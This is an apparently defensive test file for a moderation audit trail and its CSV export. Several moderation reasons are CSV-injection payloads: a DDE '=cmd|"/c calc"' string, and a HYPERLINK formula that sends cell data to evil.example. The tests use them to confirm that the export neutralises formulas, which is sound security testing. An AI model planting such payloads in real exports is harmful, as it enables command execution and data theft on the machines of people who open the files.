import { sql } from 'drizzle-orm'
import { beforeAll, describe, expect, test } from 'vitest'
import { action as adminAction } from '#app/routes/admin.tsx'
import { loader as auditCsvLoader } from '#app/routes/admin_.audit[.]csv.ts'
import { loader as adminEventLoader } from '#app/routes/admin_.events.$id.tsx'
import * as auditPageRoute from '#app/routes/admin_.audit.tsx'
import { recordModerationDecision, type AuditAction } from '#app/models/moderation/moderation-audit.server.ts'
import { platformToday } from '#app/services/platform/platform-today.server.ts'
import { addDaysIso } from '#app/utils/time.ts'
import { db } from '#db/client.server.ts'
import { insertUser } from '#db/factories.ts'
import { moderationAudit, type Business, type Event, type User } from '#db/schema.ts'
import { sessionCookieFor } from '#tests/support/auth.ts'
import { insertBusiness } from '#tests/support/events.ts'
import { auditRowsOf, paidAdAwaitingReview, postForm } from '#tests/support/moderation.ts'
import { parseCsv } from '#tests/support/csv.ts'
import { shownAfter, textOf } from '#tests/support/document-request.ts'
import { callRoute } from '#tests/support/routes.ts'

const today = platformToday()
let owner: Business
let admin: User
let adminCookie: string

beforeAll(async () => {
  owner = await insertBusiness(db, { businessName: 'Audited Ads Ltd' })
  admin = await insertUser(db, { roles: ['admin'] })
  adminCookie = await sessionCookieFor({ user: admin })
})

const decide = (eventID: number, intent: string, reason = '') =>
  postForm(adminAction, '/admin', { intent, eventID: String(eventID), reason }, { cookie: adminCookie })

describe('every review decision enters the trail with who, when, what and why', () => {
  test('approve, request changes and reject (with its refund)', async () => {
    const approved = await paidAdAwaitingReview(owner)
    const sentBack = await paidAdAwaitingReview(owner)
    const rejected = await paidAdAwaitingReview(owner)
    expect((await decide(approved.eventID, 'approve')).status).toBe(302)
    expect((await decide(sentBack.eventID, 'request_changes', 'Add the start time')).status).toBe(302)
    expect((await decide(rejected.eventID, 'reject', 'Misleading =cmd|"/c calc"')).status).toBe(302)

    const who = {
      actorUserId: admin.id,
      actorEmail: admin.email,
      businessID: owner.businessID,
      revision: false,
    }
    expect(await auditRowsOf(approved.eventID)).toEqual([
      expect.objectContaining({ ...who, action: 'approve', reason: '', occurredAt: expect.any(Date) }),
    ])
    expect(await auditRowsOf(sentBack.eventID)).toEqual([
      expect.objectContaining({ ...who, action: 'request_changes', reason: 'Add the start time' }),
    ])
    expect(await auditRowsOf(rejected.eventID)).toEqual([
      expect.objectContaining({ ...who, action: 'reject', reason: 'Misleading =cmd|"/c calc"' }),
    ])
  })

  test('a decision that cannot apply (already decided) adds nothing', async () => {
    const event = await paidAdAwaitingReview(owner)
    await decide(event.eventID, 'approve')
    await decide(event.eventID, 'approve')
    await decide(event.eventID, 'reject', 'Too late')
    expect((await auditRowsOf(event.eventID)).map((r) => r.action)).toEqual(['approve'])
  })
})

test('the trail is append-only: UPDATE and DELETE fail, on every row', async () => {
  const event = await paidAdAwaitingReview(owner)
  await decide(event.eventID, 'approve')
  await expect(db.execute(sql`UPDATE moderation_audit SET reason = 'rewritten'`)).rejects.toThrow()
  await expect(db.execute(sql`DELETE FROM moderation_audit`)).rejects.toThrow()
  await expect(
    db.execute(sql`UPDATE moderation_audit SET "actorEmail" = '' WHERE "eventID" = ${event.eventID}`),
  ).rejects.toThrow()
  expect(await auditRowsOf(event.eventID)).toHaveLength(1)
})

describe("the ad's admin page", () => {
  test('shows the ad and its decisions, newest first', async () => {
    const event = await paidAdAwaitingReview(owner, { eventTitle: 'Trail Ad' })
    await decide(event.eventID, 'request_changes', 'Blurry photo')
    const res = await callRoute(adminEventLoader, `/admin/events/${event.eventID}`, {
      params: { id: String(event.eventID) },
      headers: { Cookie: adminCookie },
    })
    expect(res.status).toBe(200)
    const page = (await res.json()) as {
      event: { eventTitle: string }
      trail: Array<Record<string, unknown>>
    }
    expect(page.event.eventTitle).toBe('Trail Ad')
    expect(page.trail).toEqual([
      expect.objectContaining({ who: admin.email, what: 'Changes requested', reason: 'Blurry photo' }),
    ])
  })

  test('404 for an unknown, negative, huge or non-numeric id', async () => {
    for (const id of ['999999999', '-1', '99999999999999999999', 'abc', '1;drop']) {
      const res = await callRoute(adminEventLoader, `/admin/events/${id}`, {
        params: { id },
        headers: { Cookie: adminCookie },
      })
      expect(res.status).toBe(404)
    }
  })
})

type AuditPageData = {
  filters: { from: string; to: string; decision: string; admin: string }
  rows: Array<{
    id: number
    occurredAt: string
    who: string
    what: string
    reason: string
    eventID: number | null
  }>
}

const AUDIT_PAGE = [{ path: '/admin/audit', ...auditPageRoute }]

/** The audit page as an administrator's browser without JavaScript gets it. */
const auditPage = (query: string) =>
  shownAfter(AUDIT_PAGE, `/admin/audit${query}`, { headers: { Cookie: adminCookie } })

describe('GET /admin/audit.csv', () => {
  const csv = (query: string) =>
    callRoute(auditCsvLoader, `/admin/audit.csv${query}`, { headers: { Cookie: adminCookie } })

  test('the decisions of the range as CSV, free text kept as text (no spreadsheet formulas)', async () => {
    const event = await paidAdAwaitingReview(owner)
    await decide(event.eventID, 'reject', '=HYPERLINK("http://x"), "quoted"')
    const res = await csv(`?from=${today}&to=${today}`)
    expect(res.status).toBe(200)
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('Content-Disposition')).toBe(
      `attachment; filename="moderation-${today}-${today}.csv"`,
    )
    const [header, ...lines] = parseCsv(await res.text())
    expect(header).toEqual([
      'occurred_at',
      'actor',
      'action',
      'event_id',
      'business_id',
      'revision',
      'reason',
    ])
    const line = lines.find((l) => l[2] === 'reject' && l[3] === String(event.eventID))
    expect(line!.slice(1)).toEqual([
      admin.email,
      'reject',
      String(event.eventID),
      String(owner.businessID),
      'no',
      `'=HYPERLINK("http://x"), "quoted"`,
    ])
  })

  test('every cell is quoted and no cell can run as a formula, whatever the separator', async () => {
    const event = await paidAdAwaitingReview(owner)
    const reasons = [
      'ok;=5+5',
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '-1+2',
      '@SUM(1)',
      '+1',
      '\t=1+1',
      '\r=1+1',
      'plain, "quoted" text',
      ' =1',
    ]
    await db.transaction(async (tx) => {
      for (const reason of reasons)
        await recordModerationDecision(tx, {
          action: 'reject',
          actorUserId: admin.id,
          eventID: event.eventID,
          reason,
        })
    })
    const text = await (await csv(`?from=${today}&to=${today}`)).text()
    // Quoted cells only: `"…"` joined by commas, the quotes inside doubled.
    for (const line of text.split('\r\n').slice(0, -1))
      expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/)
    const mine = parseCsv(text).filter((l) => l[3] === String(event.eventID))
    expect(mine.map((l) => l[6])).toEqual([
      'ok;=5+5',
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      "'-1+2",
      "'@SUM(1)",
      "'+1",
      "'\t=1+1",
      "'\r=1+1",
      'plain, "quoted" text',
      ' =1',
    ])
    // Read with the comma, or with the semicolon of a spreadsheet set to another locale: no cell starts a formula.
    for (const separator of [',', ';']) {
      for (const cell of parseCsv(text, separator).flat()) expect(cell, separator).not.toMatch(/^[=+\-@\t\r]/)
    }
  })

  test('a range without the decision leaves it out', async () => {
    const event = await paidAdAwaitingReview(owner)
    await decide(event.eventID, 'approve')
    const yesterday = addDaysIso(today, -1)
    const res = await csv(`?from=${addDaysIso(today, -5)}&to=${yesterday}`)
    expect(res.status).toBe(200)
    const lines = parseCsv(await res.text())
    expect(lines.some((l) => l[2] === 'approve' && l[3] === String(event.eventID))).toBe(false)
  })

  test('400 naming the problem for a missing, bad, reversed or too long range', async () => {
    for (const [query, message] of [
      ['', /from: a date/],
      [`?from=${today}`, /to: a date/],
      ['?from=2026-13-45&to=2026-01-01', /from: "2026-13-45" is not a valid date/],
      ['?from=2026-02-01&to=2026-01-01', /ends before it starts/],
      ['?from=2020-01-01&to=2026-01-01', /longer than 366 days/],
      [`?from=${'9'.repeat(5000)}&to=2026-01-01`, /not a valid date/],
    ] as const) {
      const res = await csv(query)
      expect(res.status).toBe(400)
      expect(((await res.json()) as { message: string }).message).toMatch(message)
    }
  })
})

describe('dates out of range or malformed', () => {
  const HOSTILE: Array<[string, RegExp]> = [
    ['?from=9999-12-31&to=9999-12-31', /from: "9999-12-31" is outside the years 2000 to 2100/],
    ['?from=2026-01-01&to=9999-12-31', /to: "9999-12-31" is outside the years 2000 to 2100/],
    ['?from=1999-12-31&to=2000-01-01', /from: "1999-12-31" is outside the years 2000 to 2100/],
    ['?from=0000-01-01&to=0000-01-02', /from: "0000-01-01" is not a valid date/],
    ['?from=%2B010000-01-01&to=2026-01-01', /from: "\+010000-01-01" is not a valid date/],
    ['?from=2026-02-29&to=2026-03-01', /from: "2026-02-29" is not a valid date/],
    ['?from=2026-1-1&to=2026-01-02', /from: "2026-1-1" is not a valid date/],
    ['?from=2026-01-01T00:00Z&to=2026-01-02', /not a valid date/],
    ['?from=-1&to=2026-01-02', /from: "-1" is not a valid date/],
    ['?from=2026-01-01%00&to=2026-01-02', /not a valid date/],
  ]

  test('the CSV answers 400 with a message, never a 500', async () => {
    for (const [query, message] of HOSTILE) {
      const res = await callRoute(auditCsvLoader, `/admin/audit.csv${query}`, {
        headers: { Cookie: adminCookie },
      })
      expect(res.status, query).toBe(400)
      expect(((await res.json()) as { message: string }).message, query).toMatch(message)
    }
  })

  test('the audit page answers 400 with the message beside its form', async () => {
    for (const [query, message] of HOSTILE) {
      const page = await auditPage(query)
      expect(page.status, query).toBe(400)
      expect(textOf(page.html), query).toMatch(message)
      expect(page.html, query).toContain('name="from"')
    }
  })
})

describe('the audit page lists the decisions', () => {
  // A day of its own, long ago, so the decisions the other tests take today do not mix in.
  const DAY = '2025-03-10'
  const range = `from=${DAY}&to=${DAY}`
  let otherAdmin: User
  let ad: Event

  /** Decisions taken on DAY, one a minute from 12:00 UTC, in this order. */
  const timeline: Array<{ action: AuditAction; actor: () => string | null }> = [
    ...Array.from({ length: 55 }, () => ({ action: 'approve' as const, actor: () => admin.id })),
    ...Array.from({ length: 3 }, () => ({ action: 'reject' as const, actor: () => otherAdmin.id })),
    ...Array.from({ length: 2 }, () => ({ action: 'auto_approve' as const, actor: () => null })),
  ]

  beforeAll(async () => {
    otherAdmin = await insertUser(db, { roles: ['admin'] })
    ad = await paidAdAwaitingReview(owner, { eventTitle: 'Listed In The Trail' })
    await db.insert(moderationAudit).values(
      timeline.map(({ action, actor }, minute) => ({
        occurredAt: new Date(Date.parse(`${DAY}T12:00:00Z`) + minute * 60_000),
        action,
        actorUserId: actor(),
        actorEmail: actor() === otherAdmin.id ? otherAdmin.email : actor() ? admin.email : '',
        eventID: ad.eventID,
        businessID: owner.businessID,
        reason: `decision ${minute}`,
      })),
    )
  })

  test('newest first, 50 a page, each row linking to its ad’s admin page, with the CSV link beside it', async () => {
    const first = await auditPage(`?${range}`)
    expect(first.status).toBe(200)
    const rows = (first.loaderData as AuditPageData).rows
    expect(rows.map((r) => r.reason)).toEqual(
      Array.from({ length: 50 }, (_, i) => `decision ${timeline.length - 1 - i}`),
    )
    expect(first.html).toContain(`href="/admin/events/${ad.eventID}"`)
    expect(first.html).toContain(`href="/admin/audit.csv?${range.replace('&', '&amp;')}"`)
    expect(first.html).toContain(`href="/admin/audit?${range.replace('&', '&amp;')}&amp;page=2"`)
    expect(textOf(first.html)).toContain('Auto-approved')

    const second = await auditPage(`?${range}&page=2`)
    expect((second.loaderData as AuditPageData).rows.map((r) => r.reason)).toEqual(
      Array.from({ length: 10 }, (_, i) => `decision ${9 - i}`),
    )
    expect(second.html).toContain(`href="/admin/audit?${range.replace('&', '&amp;')}"`)
    expect(second.html).not.toContain('page=3')

    const past = await auditPage(`?${range}&page=3`)
    expect(past.status).toBe(200)
    expect((past.loaderData as AuditPageData).rows).toEqual([])
  })

  test('filters by decision and by administrator; the CSV link and the CSV carry the same filters', async () => {
    const rejected = await auditPage(`?${range}&decision=reject`)
    const rejectRows = (rejected.loaderData as AuditPageData).rows
    expect(rejectRows.map((r) => [r.what, r.who])).toEqual([
      ['Rejected', otherAdmin.email],
      ['Rejected', otherAdmin.email],
      ['Rejected', otherAdmin.email],
    ])
    expect(rejected.html).toContain(
      `href="/admin/audit.csv?${range.replace('&', '&amp;')}&amp;decision=reject"`,
    )

    const byOther = (await auditPage(`?${range}&admin=${otherAdmin.id}`)).loaderData as AuditPageData
    expect(byOther.rows.map((r) => r.reason)).toEqual(['decision 57', 'decision 56', 'decision 55'])
    const none = (await auditPage(`?${range}&admin=${otherAdmin.id}&decision=approve`))
      .loaderData as AuditPageData
    expect(none.rows).toEqual([])
    // The form offers every administrator and every kind of decision, the chosen ones selected.
    const form = (await auditPage(`?${range}&admin=${otherAdmin.id}&decision=reject`)).html
    expect(form).toMatch(new RegExp(`<option value="${otherAdmin.id}" selected="">`))
    expect(form).toMatch(/<option value="reject" selected="">Rejected<\/option>/)

    const csv = await callRoute(
      auditCsvLoader,
      `/admin/audit.csv?${range}&decision=reject&admin=${otherAdmin.id}`,
      {
        headers: { Cookie: adminCookie },
      },
    )
    expect(csv.status).toBe(200)
    const lines = parseCsv(await csv.text())
    expect(lines.slice(1).map((line) => [line[2], line[6]])).toEqual([
      ['reject', 'decision 55'],
      ['reject', 'decision 56'],
      ['reject', 'decision 57'],
    ])
  })

  test('without dates, the last 30 days', async () => {
    const page = await auditPage('')
    expect(page.status).toBe(200)
    expect((page.loaderData as AuditPageData).filters).toMatchObject({
      from: addDaysIso(today, -30),
      to: today,
    })
  })

  test('bad filters are a 400 naming the problem', async () => {
    for (const [query, message] of [
      [`?${range}&decision=delete_everything`, /decision: "delete_everything" is not a kind of decision/],
      [`?${range}&admin=not-a-uuid`, /admin: "not-a-uuid" is not an administrator’s id/],
      [`?${range}&page=0`, /page: "0" is not a page number/],
      [`?${range}&page=-2`, /page: "-2" is not a page number/],
      [`?${range}&page=1e3`, /page: "1e3" is not a page number/],
      [`?${range}&page=99999999999`, /page: "99999999999" is not a page number/],
      [`?from=${DAY}`, /to: a date \(yyyy-mm-dd\) is required/],
      ['?from=2026-02-01&to=2026-01-01', /ends before it starts/],
      ['?from=2020-01-01&to=2026-01-01', /longer than 366 days/],
    ] as const) {
      const page = await auditPage(query)
      expect(page.status, query).toBe(400)
      expect(textOf(page.html), query).toMatch(message)
      const csv = await callRoute(auditCsvLoader, `/admin/audit.csv${query.replace(/&page=[^&]*/, '')}`, {
        headers: { Cookie: adminCookie },
      })
      if (!query.includes('page=')) expect(csv.status, query).toBe(400)
    }
  })
})

test('the model records the platform’s own decisions without an actor', async () => {
  const event = await paidAdAwaitingReview(owner)
  await db.transaction((tx) =>
    recordModerationDecision(tx, {
      action: 'auto_approve',
      eventID: event.eventID,
      businessID: owner.businessID,
    }),
  )
  expect(await auditRowsOf(event.eventID)).toEqual([
    expect.objectContaining({ action: 'auto_approve', actorUserId: null, actorEmail: '' }),
  ])
})
